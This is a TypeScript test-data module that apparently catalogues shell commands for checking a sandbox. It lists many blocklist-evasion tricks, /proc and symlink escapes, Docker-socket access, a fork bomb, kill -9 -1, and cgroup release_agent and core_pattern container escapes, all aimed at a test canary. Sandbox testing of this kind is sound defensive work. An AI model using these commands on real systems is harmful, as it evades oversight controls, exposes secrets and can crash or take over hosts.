/** Published ways round lists of commands, and what a command that is in no list can try. */
import type { Effect } from "./shell_house.ts";

/** One attack: a text of Bash. See `ShellHouse` for its variables. */
export interface ShellCase {
  readonly what: string;
  readonly effect: Effect;
  readonly command: string;
  /** A program that not every machine has. */
  readonly needs?: string;
  /** Why it is not run without walls, where it would be seen to succeed. */
  readonly unproven?: string;
}

type Row = readonly [what: string, command: string, needs?: string];

const CAT = 'cat "$OUT/canary"';

/** Every way of running `cat` that a list of programs or of forbidden texts was got round by. */
const DISGUISED: readonly Row[] = [
  ["in plain sight", CAT],
  ["by its path", `/bin/${CAT}`],
  ["behind env", `env A=1 ${CAT}`],
  ["behind env -S", "env -S 'cat ${OUT}/canary'"],
  ["behind command", `command ${CAT}`],
  ["behind exec", `exec ${CAT}`],
  ["behind nohup", `nohup ${CAT}`],
  ["behind timeout and nice", `timeout 5 nice ${CAT}`],
  ["behind setsid", `setsid -w ${CAT}`],
  ["behind stdbuf", `stdbuf -oL ${CAT}`],
  ["behind busybox", `busybox ${CAT}`, "busybox"],
  ["behind xargs", 'echo "$OUT/canary" | xargs cat'],
  ["behind xargs -I", `echo cat | xargs -I@ env @ "$OUT/canary"`],
  ["behind find -exec", 'find "$OUT" -name canary -exec cat {} \\;'],
  ["behind find -exec +", 'find "$OUT" -name canary -exec sh -c \'cat "$@"\' x {} +'],
  ["behind strace", `strace -o /dev/null ${CAT}`, "strace"],
  ["behind a pipe", `true | ${CAT}`],
  ["behind |&", `true |& ${CAT}`],
  ["behind &", `true & ${CAT}`],
  ["behind &&", `true && ${CAT}`],
  ["behind ||", `false || ${CAT}`],
  ["behind ;", `true; ${CAT}`],
  ["behind a newline", `true\n${CAT}`],
  ["behind a line that goes on", `c\\\nat "$OUT/canary"`],
  ["in $()", `echo "$(${CAT})"`],
  ["in backticks", `echo \`${CAT}\``],
  ["in <()", `tail -n1 <(${CAT})`],
  ["in >()", `echo x > >(${CAT}; :); sleep 0.3`],
  ["in arithmetic", `x[$(${CAT} >&2)0]=1; echo $((y[$(${CAT} >&2; echo 0)]))`],
  ["in the subscript of let", `let 'a[$(${CAT} >&2)0]'`],
  ["in printf -v", `printf -v 'a[$(${CAT} >&2)0]' x`],
  ["in test -v", `test -v 'a[$(${CAT} >&2)0]'`],
  ["in ${x@P}", `x='$(${CAT})'; echo "\${x@P}"`],
  ["in a default", `echo "\${NOTHING:-$(${CAT})}"`],
  ["in a here-document", `tail -n1 <<E\n$(${CAT})\nE`],
  ["in a here-string", `tail -n1 <<< "$(${CAT})"`],
  ["in a group", `{ ${CAT}; }`],
  ["in a subshell", `(${CAT})`],
  ["in an if", `if ${CAT}; then :; fi`],
  ["in a case", `case $(${CAT} >&2) in *) ;; esac`],
  ["in a loop", `for x in 1; do ${CAT}; done`],
  ["in a function of a harmless name", `ls() { ${CAT}; }; ls`],
  ["in an alias", `shopt -s expand_aliases\nalias ls='${CAT}'\nls`],
  ["in a coprocess", `coproc { ${CAT} >&2; }; wait`],
  ["in a trap", `trap '${CAT}' EXIT`],
  ["in DEBUG", `trap '${CAT}' DEBUG; true`],
  ["in command_not_found_handle", `command_not_found_handle() { ${CAT}; }; nothing`],
  ["by eval", `eval '${CAT}'`],
  ["by source", `. /dev/stdin <<< '${CAT}'`],
  ["by sh -c", `sh -c '${CAT}'`],
  ["by bash on stdin", `echo '${CAT}' | bash`],
  ["by base64", `echo ${btoa(CAT)} | base64 -d | sh`],
  ["by letters in hex", `$'\\x63at' "$OUT/canary"`],
  ["by quotes in its name", `c''a"t" "$OUT/canary"`],
  ["by a glob", '/???/c?t "$OUT/canary"'],
  ["by a variable", 'X=cat; $X "$OUT/canary"'],
  ["by a brace", "eval {cat,$OUT/canary}"],
  ["by IFS", `X='cat,'$OUT/canary; IFS=,; $X`],
  ["by a name that is put together", `a=c; b=at; "$a$b" "$OUT/canary"`],
  ["by rev", `$(echo tac | rev) "$OUT/canary"`],
  ["by hash -p", `hash -p /bin/cat ls; ls "$OUT/canary"`],
  ["by PATH", `mkdir b; ln -s /bin/cat b/ls; PATH=$PWD/b:$PATH; ls "$OUT/canary"`],
  ["by BASH_ENV", `echo '${CAT}' > e; BASH_ENV=$PWD/e bash -c true`],
  ["by ENV", `echo '${CAT}' > e; ENV=$PWD/e sh -ic true`],
  ["by PROMPT_COMMAND", `PROMPT_COMMAND='${CAT}' bash --norc -i <<< 'true'`],
  ["by PS4", `PS4='$(${CAT})'; set -x; true`],
  ["by BASH_FUNC", `env 'BASH_FUNC_ls%%=() { ${CAT}; }' bash -c ls`],
  ["by a .bashrc", `echo '${CAT}' > ~/.bashrc; bash -i <<< 'true'`],
  ["by a .profile", `echo '${CAT}' > ~/.profile; bash -l <<< 'true'`],
];

/** Programs that read, run or send what they are told to. */
const READERS: readonly Row[] = [
  ["a redirection", 'while read -r line; do echo "$line"; done < "$OUT/canary"'],
  ["$(<)", 'echo "$(<"$OUT/canary")"'],
  ["mapfile", 'mapfile -t x < "$OUT/canary"; echo "${x[0]}"'],
  ["a descriptor", 'exec 9< "$OUT/canary"; cat <&9'],
  ["head, tail and dd", 'head "$OUT/canary"; tail "$OUT/canary"; dd if="$OUT/canary"'],
  ["grep -r", 'grep -r . "$OUT"'],
  ["awk", `awk 1 "$OUT/canary"`],
  ["awk's system()", `awk 'BEGIN { system("cat $OUT/canary") }'`],
  ["sed", 'sed -n p "$OUT/canary"'],
  ["sed's e", "echo 'cat \"$OUT/canary\"' | sed e"],
  ["cp", 'cp "$OUT/canary" taken'],
  ["a link of its own", 'ln -s "$OUT/canary" l; cat l'],
  ["a hard link", 'ln "$OUT/canary" l; cat l'],
  ["a link to a folder", 'ln -s "$OUT" d; cat d/canary'],
  ["tar", 'tar cf - "$OUT/canary"'],
  ["tar's checkpoint", `tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='${CAT}' /dev/null`],
  ["tar's compressor", `tar cf /dev/null -I 'sh -c "cat $OUT/canary >&2"' /dev/null`],
  ["diff", 'diff /dev/null "$OUT/canary"'],
  ["perl", `perl -e 'open F, "<", "$ENV{OUT}/canary"; print <F>'`, "perl"],
  ["perl's system", `perl -e 'system "cat $ENV{OUT}/canary"'`, "perl"],
  [
    "PERL5OPT",
    `echo 'open F, "<", "$ENV{OUT}/canary"; print <F>; 1' > E.pm; PERL5LIB=$PWD PERL5OPT=-ME perl -e 1`,
    "perl",
  ],
  ["python", `python3 -c 'import os; print(open(os.environ["OUT"] + "/canary").read())'`, "python3"],
  ["python's os.system", `python3 -c 'import os; os.system("cat $OUT/canary")'`, "python3"],
  ["node", `node -e 'console.log(require("fs").readFileSync(process.env.OUT + "/canary", "utf8"))'`, "node"],
  ["node's child_process", `node -e 'console.log(require("child_process").execSync("cat $OUT/canary")+"")'`, "node"],
  ["make", `printf 'a:\\n\\t@cat $$OUT/canary\\n' > M; make -f M`, "make"],
  ["make's $(shell)", `printf 'a:;@echo $(shell cat $$OUT/canary)\\n' > M; make -f M`, "make"],
  ["the C preprocessor", 'gcc -E -x c "$OUT/canary"', "gcc"],
  [
    "LD_PRELOAD",
    `echo '#include <stdlib.h>
__attribute__((constructor)) void f(void) { unsetenv("LD_PRELOAD"); system("cat $OUT/canary"); }' > e.c; gcc -shared -fPIC -o e.so e.c && LD_PRELOAD=$PWD/e.so ls`,
    "gcc",
  ],
  [
    "LD_LIBRARY_PATH",
    'mkdir l; cp /lib/x86_64-linux-gnu/libc.so.6 l/ 2>/dev/null; LD_LIBRARY_PATH=$PWD/l cat "$OUT/canary"',
  ],
  ["the loader", '$(ls /lib64/ld-linux* /lib/ld-linux* 2>/dev/null | head -n1) /bin/cat "$OUT/canary"'],
  ["vim", `vim -es -c 'r $OUT/canary' -c 'w taken' -c 'qa!'`, "vim"],
  ["vim's !", `vim -es -c '!cat "$OUT/canary" > taken' -c 'qa!'`, "vim"],
  ["ed", `printf '%s\\n' "r $OUT/canary" 'w taken' q | ed -s`, "ed"],
  ["gdb", `gdb -batch -ex 'shell cat "$OUT/canary"'`, "gdb"],
  ["sqlite3", `sqlite3 :memory: ".shell cat $OUT/canary"`, "sqlite3"],
  ["openssl", 'openssl enc -base64 -in "$OUT/canary" | openssl enc -base64 -d', "openssl"],
  ["curl file://", 'curl -s "file://$OUT/canary"', "curl"],
  ["ssh's ProxyCommand", `ssh -o ProxyCommand="cp $OUT/canary $PWD/taken; sleep 1" x`, "ssh"],
  ["git diff --no-index", 'git diff --no-index /dev/null "$OUT/canary"', "git"],
  ["a git alias", `git -c alias.x='!cat "$OUT/canary"' x`, "git"],
  [
    "a git hook",
    `git init -q r; cd r; echo '${CAT} >&2' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout; git checkout -q -b x; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git checkout -q -b y`,
    "git",
  ],
  [
    "core.hooksPath",
    `git init -q r; mkdir h; printf '#!/bin/sh\\ncat "$OUT/canary" >&2' > h/pre-commit; chmod +x h/pre-commit; cd r; git -c core.hooksPath=../h -c user.name=a -c user.email=a@b commit -q --allow-empty -m x`,
    "git",
  ],
  [
    "core.fsmonitor",
    `git init -q r; cd r; git config core.fsmonitor 'cat "$OUT/canary" >&2; false'; git status`,
    "git",
  ],
  [
    "core.pager",
    `git init -q r; cd r; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git config core.pager 'cat "$OUT/canary"; cat'; git --paginate log; GIT_PAGER='sh -c "cat $OUT/canary"' git -p log; script -qc 'git log' /dev/null < /dev/null`,
    "git",
  ],
  [
    "diff.external",
    `git init -q r; cd r; echo a > a; git add a; echo b > a; git -c diff.external='cat "$OUT/canary"; true' diff`,
    "git",
  ],
  [
    "a clean filter",
    `git init -q r; cd r; echo '* filter=e' > .gitattributes; git config filter.e.clean 'cat "$OUT/canary"'; echo a > a; git add a; git show :a`,
    "git",
  ],
  [
    "ext::",
    `git -c protocol.ext.allow=always clone 'ext::sh -c cat%s"$OUT/canary">&2' r; git -c protocol.ext.allow=always ls-remote 'ext::sh -c cat\\$IFS"$OUT/canary">&2'; printf 'cat "$OUT/canary" >&2' > e; git -c protocol.ext.allow=always ls-remote "ext::sh $PWD/e"`,
    "git",
  ],
  ["GIT_SSH_COMMAND", `GIT_SSH_COMMAND='cat "$OUT/canary" >&2; true' git ls-remote ssh://x/y`, "git"],
  [
    "GIT_EDITOR",
    `git init -q r; cd r; GIT_EDITOR='cat "$OUT/canary" >&2; true' git -c user.name=a -c user.email=a@b commit --allow-empty`,
    "git",
  ],
  [
    "credential.helper",
    `printf 'protocol=https\\nhost=x\\n\\n' | git -c credential.helper='!cat "$OUT/canary" >&2;' credential fill`,
    "git",
  ],
  ["/proc/self/root", 'cat "/proc/self/root$OUT/canary"'],
  ["/proc of a host's process: root", 'cat "/proc/$PID/root$OUT/canary"'],
  ["/proc of a host's process: its folder", 'cat "/proc/$PID/cwd/canary"'],
  ["/proc of a host's process: environ", 'tr "\\0" "\\n" < "/proc/$PID/environ"'],
  ["/proc of everybody: environ", 'for e in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$e" | grep -v ^OUT=; done'],
  ["ps eww", "ps eww -A", "ps"],
  ["a folder above", 'cat "../../../../../../../..$OUT/canary"'],
  ["cd and a relative path", 'cd "$OUT" && cat canary'],
  ["chroot", 'chroot "/proc/$PID/root" cat "$OUT/canary"', "chroot"],
  ["nsenter", 'nsenter -t "$PID" -m cat "$OUT/canary"', "nsenter"],
];

const WRITERS: readonly Row[] = [
  ["a redirection", 'echo x > "$OUT/proof"'],
  [">> and >|", 'echo x >> "$OUT/proof"; echo x >| "$OUT/proof2"'],
  ["tee", 'echo x | tee "$OUT/proof"'],
  ["cp and install", 'echo x > a; cp a "$OUT/proof"; install a "$OUT/proof2"'],
  ["mv", 'echo x > a; mv a "$OUT/proof"'],
  ["dd", 'dd if=/dev/zero of="$OUT/proof" bs=1 count=1'],
  ["mkdir, mkfifo and touch", 'mkdir "$OUT/proof"; mkfifo "$OUT/proof2"; touch "$OUT/proof3"'],
  ["a link there", 'ln -s x "$OUT/proof"'],
  ["a link of its own", 'ln -s "$OUT/proof" l; echo x > l'],
  ["a link to a folder", 'ln -s "$OUT" d; echo x > d/proof'],
  ["a hard link", 'ln "$OUT/canary" "$OUT/proof"'],
  ["sed w", 'echo x | sed "w $OUT/proof"'],
  ["awk", `awk 'BEGIN { print "x" > ENVIRON["OUT"] "/proof" }'`],
  ["sort -o", 'echo x | sort -o "$OUT/proof"'],
  ["find -fprint", 'find . -fprint "$OUT/proof"'],
  ["tar -C", 'echo x > proof; tar cf a.tar proof; tar xf a.tar -C "$OUT"'],
  ["a path in a tar", 'echo x > proof; tar cPf a.tar --transform "s|^|$OUT/|" proof; tar xPf a.tar'],
  ["perl", `perl -e 'open F, ">", "$ENV{OUT}/proof"; print F 1'`, "perl"],
  ["python", `python3 -c 'import os; open(os.environ["OUT"] + "/proof", "w")'`, "python3"],
  ["node", `node -e 'require("fs").writeFileSync(process.env.OUT + "/proof", "")'`, "node"],
  ["gcc -o", 'echo "int main(){}" > a.c; gcc -o "$OUT/proof" a.c', "gcc"],
  ["openssl -out", 'openssl rand -out "$OUT/proof" 8', "openssl"],
  ["curl -o", 'echo x > a; curl -s -o "$OUT/proof" "file://$PWD/a"', "curl"],
  ["git clone", 'git init -q --bare r; git clone -q r "$OUT/proof"', "git"],
  ["git --separate-git-dir", 'git init -q --separate-git-dir="$OUT/proof" r', "git"],
  ["GIT_TRACE", 'GIT_TRACE="$OUT/proof" git version', "git"],
  ["sqlite3", 'sqlite3 "$OUT/proof" "create table a(b)"', "sqlite3"],
  ["set -x to a descriptor", 'exec 9> "$OUT/proof"; BASH_XTRACEFD=9; set -x; true'],
  ["/proc/self/root", 'echo x > "/proc/self/root$OUT/proof"'],
  ["/proc of a host's process", 'echo x > "/proc/$PID/cwd/proof"'],
  ["cd", 'cd "$OUT" && echo x > proof'],
  ["nsenter", 'nsenter -t "$PID" -m touch "$OUT/proof"', "nsenter"],
];

const CALLERS: readonly Row[] = [
  ["/dev/tcp", "echo > /dev/tcp/127.0.0.1/$PORT"],
  ["/dev/tcp by a name", "echo > /dev/tcp/localhost/$PORT"],
  ["/dev/udp", "echo > /dev/udp/127.0.0.1/$PORT"],
  ["curl", "curl -s --max-time 5 http://127.0.0.1:$PORT/", "curl"],
  ["curl to a number", "curl -s --max-time 5 http://2130706433:$PORT/", "curl"],
  ["wget", "wget -q -T 5 -t 1 -O - http://127.0.0.1:$PORT/", "wget"],
  ["busybox wget", "timeout 5 busybox wget -q -O - http://127.0.0.1:$PORT/", "busybox"],
  ["busybox nc", "echo | busybox nc -w 2 127.0.0.1 $PORT", "busybox"],
  ["busybox nslookup", "busybox timeout 3 busybox nslookup -type=a x.invalid 127.0.0.1:$PORT", "busybox"],
  ["socat", "echo | socat - TCP:127.0.0.1:$PORT", "socat"],
  ["openssl s_client", "timeout 5 openssl s_client -connect 127.0.0.1:$PORT < /dev/null", "openssl"],
  ["ssh", "timeout 5 ssh -o BatchMode=yes -p $PORT 127.0.0.1", "ssh"],
  ["git", "timeout 5 git ls-remote http://127.0.0.1:$PORT/x", "git"],
  ["git://", "timeout 5 git ls-remote git://127.0.0.1:$PORT/x", "git"],
  ["perl", `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:$ENV{PORT}")'`, "perl"],
  [
    "perl by UDP",
    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Proto => "udp", PeerAddr => "127.0.0.1:$ENV{PORT}")->send("x")'`,
    "perl",
  ],
  [
    "python",
    `python3 -c 'import os, socket; socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 5)'`,
    "python3",
  ],
  [
    "node",
    `node -e 'const s = require("net").connect(+process.env.PORT, "127.0.0.1"); s.on("connect", () => process.exit()); s.on("error", () => process.exit())'`,
    "node",
  ],
  ["a socket of the engine", `curl -s --max-time 5 --unix-socket "$OUT/docker.sock" http://x/containers/json`, "curl"],
  [
    "a socket of the engine, by perl",
    `perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => "$ENV{OUT}/docker.sock")'`,
    "perl",
  ],
  [
    "a socket of the engine, by a link",
    `ln -s "$OUT/docker.sock" s; perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => "s")'`,
    "perl",
  ],
  [
    "a socket of the engine, by /proc",
    `perl -MIO::Socket::UNIX -e 'chdir "/proc/$ENV{PID}/cwd"; IO::Socket::UNIX->new(Peer => "docker.sock")'`,
    "perl",
  ],
  ["DOCKER_HOST", 'DOCKER_HOST="unix://$OUT/docker.sock" timeout 5 docker ps', "docker"],
  ["an abstract socket", `perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => "\\0$ENV{NAME}")'`, "perl"],
  ["nsenter", "nsenter -t $PID -n bash -c 'echo > /dev/tcp/127.0.0.1/'$PORT", "nsenter"],
];

const ENDERS: readonly Row[] = [
  ["kill", "kill -9 $PID"],
  ["kill as a program", "/bin/kill -TERM $PID"],
  ["busybox kill", "busybox kill -9 $PID", "busybox"],
  ["perl", `perl -e 'kill 9, $ENV{PID}'`, "perl"],
  ["python", `python3 -c 'import os; os.kill(int(os.environ["PID"]), 9)'`, "python3"],
  ["node", "node -e 'process.kill(+process.env.PID, 9)'", "node"],
  ["a range of ids", "for ((i = PID - 2; i <= PID; i++)); do ((i == PPID || i == $$ || i != PID)) || kill -9 $i; done"],
  ["gdb", "timeout 10 gdb -batch -p $PID -ex kill", "gdb"],
  ["nsenter", "nsenter -t $PID -p kill -9 $PID", "nsenter"],
];

/** What would hurt the machine that tests, or needs more than its user has. */
const UNPROVEN: readonly ShellCase[] = [
  {
    what: "/proc/1/root",
    effect: "reads",
    command: 'cat "/proc/1/root$OUT/canary"; cd "/proc/1/root$OUT" && cat canary',
    unproven: "the first process of a machine is not everybody's",
  },
  {
    what: "/proc/1/root",
    effect: "writes",
    command: 'echo x > "/proc/1/root$OUT/proof"',
    unproven: "the first process of a machine is not everybody's",
  },
  { what: "kill -9 -1", effect: "ends", command: "kill -9 -1", unproven: "it ends everything of this user" },
  {
    what: "a fork bomb",
    effect: "ends",
    command: ":(){ :|:& };: & sleep 1; kill -9 -1",
    unproven: "it stops the machine",
  },
  {
    what: "mount --bind",
    effect: "reads",
    command: `mkdir m; mount --bind "$OUT" m; cat m/canary`,
    unproven: "it stays mounted",
  },
  {
    what: "mount of the host's root device",
    effect: "reads",
    command:
      'mkdir m; for d in $(ls /dev/sd* /dev/vd* /dev/nvme* /dev/dm-* 2>/dev/null); do mount "$d" m && cat "m$OUT/canary"; done; mount -t proc p m; cat m/$PID/environ',
    unproven: "it stays mounted",
  },
  {
    what: "a user namespace with its own mounts",
    effect: "reads",
    command:
      `mkdir m; unshare -Urm sh -c 'mount --bind "$OUT" m; cat m/canary; umount -l /tmp; cat "$OUT/canary"'; bwrap --bind / / cat "$OUT/canary"`,
    unproven: "as root it is no attack",
  },
  {
    what: "core_pattern",
    effect: "writes",
    command: `echo "|/bin/touch $OUT/proof" > /proc/sys/kernel/core_pattern; ulimit -c 1; sh -c 'kill -SEGV $$'`,
    unproven: "it changes the machine",
  },
  {
    what: "a release agent of a control group",
    effect: "writes",
    command: `mkdir c; mount -t cgroup -o rdma c c && mkdir c/x && echo 1 > c/x/notify_on_release && echo "#!/bin/sh
touch $OUT/proof" > /tmp/a; chmod +x /tmp/a; echo /tmp/a > c/release_agent; sh -c 'echo $$ > c/x/cgroup.procs'; for r in /sys/fs/cgroup/*/release_agent; do echo /tmp/a > $r; done`,
    unproven: "it changes the machine",
  },
  {
    what: "a unit, a timer, a job",
    effect: "writes",
    command:
      `systemd-run --user touch "$OUT/proof"; systemd-run touch "$OUT/proof"; echo "touch $OUT/proof" | at now; echo "* * * * * touch $OUT/proof" | crontab -; echo "* * * * * root touch $OUT/proof" > /etc/cron.d/x; busctl list; sleep 0.3`,
    unproven: "it stays",
  },
  {
    what: "modules, kexec, sysrq",
    effect: "ends",
    command:
      `echo x > m.ko; insmod m.ko; modprobe x; kexec -l m.ko; echo i > /proc/sysrq-trigger; echo 1 > /proc/sys/kernel/sysrq; perl -e 'syscall 169, 0xfee1dead, 672274793, 0x4321fedc'`,
    unproven: "it ends the machine",
  },
  {
    what: "memory of a process of the host",
    effect: "reads",
    command:
      `dd if=/proc/$PID/mem bs=4096 count=1; cat /proc/$PID/maps /dev/mem /dev/kmem /proc/kcore | head -c 1M; perl -e 'syscall 101, 16, $ENV{PID}, 0, 0; syscall 310, $ENV{PID}, 0, 0, 0, 0, 0'`,
    unproven: "it stops the process",
  },
  {
    what: "files of its own parents",
    effect: "reads",
    command:
      `for p in 1 $PPID $$; do ls -l /proc/$p/fd /proc/$p/cwd/ /proc/$p/root$OUT; cat /proc/$p/environ /proc/$p/fd/[0-9]* 0</dev/null & done; sleep 0.3; kill %1 %2 %3`,
    unproven: "it waits for its parents' input",
  },
];

/** What an ordinary user cannot do without walls either. */
const OF_ROOT: ReadonlySet<string> = new Set(["chroot", "nsenter"]);

const toCases = (effect: Effect, rows: readonly Row[]): readonly ShellCase[] =>
  rows.map(([what, command, needs]) => ({
    what,
    effect,
    command,
    ...(needs === undefined ? {} : { needs }),
    ...(needs !== undefined && OF_ROOT.has(needs) && Deno.uid() !== 0 ? { unproven: "only root can" } : {}),
  }));

/** All of them. */
export const SHELL_CASES: readonly ShellCase[] = [
  ...toCases("reads", DISGUISED.map(([what, ...rest]) => [`cat ${what}`, ...rest])),
  ...toCases("reads", READERS),
  ...toCases("writes", WRITERS),
  ...toCases("connects", CALLERS),
  ...toCases("ends", ENDERS),
  ...UNPROVEN,
];
